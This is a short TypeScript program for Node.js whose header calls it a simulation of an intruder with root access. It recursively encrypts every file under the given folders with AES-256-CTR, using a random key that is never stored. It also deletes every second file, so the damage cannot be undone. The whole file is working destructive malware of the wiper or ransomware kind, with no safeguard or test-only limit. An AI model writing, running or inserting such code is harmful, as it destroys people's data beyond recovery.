/** What an intruder with root's powers does to a site, as a process of its own: encrypts every file it finds under a key that it throws away, and deletes half. */
import { createCipheriv, randomBytes } from 'node:crypto';
import { readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

const key = randomBytes(32);
let count = 0;
for (const folder of process.argv.slice(2)) await ransack(folder);
process.stdout.write(`${count}\n`);

async function ransack(folder: string): Promise<void> {
  for (const entry of await readdir(folder, { withFileTypes: true }).catch(() => [])) {
    const path = join(folder, entry.name);
    if (entry.isDirectory()) await ransack(path);
    // What is in use may vanish on its own.
    else if (entry.isFile()) await encrypt(path).catch(() => undefined);
  }
}

async function encrypt(path: string): Promise<void> {
  const cipher = createCipheriv('aes-256-ctr', key, randomBytes(16));
  await writeFile(path, cipher.update(await readFile(path)));
  count += 1;
  if (count % 2 === 0) await rm(path, { force: true });
}
